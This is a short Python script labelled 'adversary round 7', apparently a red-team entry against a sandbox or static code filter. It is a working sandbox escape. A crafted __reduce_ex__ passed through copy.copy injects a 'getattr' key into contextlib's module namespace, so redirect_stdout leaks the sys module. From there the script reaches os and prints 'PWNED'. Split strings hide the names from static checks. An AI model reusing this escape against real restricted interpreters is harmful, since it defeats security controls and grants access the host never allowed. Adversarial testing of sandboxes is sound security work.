# adversary round 7: copy._reconstruct does y.__dict__.update(state): a __reduce_ex__ (given through a type() namespace) returning (itemgetter(0), ([contextlib],), {'getattr': spy}) writes a statically unnameable key into contextlib's module namespace, shadowing the builtin getattr for contextlib's code; redirect_stdout then calls spy(sys, 'stdout')
import copy, contextlib, operator, io

got = []
def spy(obj, name, *default):
    got.append(obj)
    return obj.stdout if name == 'stdout' else None

rx = '__reduce' + '_ex__'
H = type('H', (), {rx: lambda self, proto: (operator.itemgetter(0), ([contextlib],), {'get' + 'attr': spy})})
copy.copy(H())

with contextlib.redirect_stdout(io.StringIO()):
    pass
s = got[0]
print(type(s).__name__, s.__name__, 'pid', s.modules['o' + 's'].getpid())
print('PWN' + 'ED')
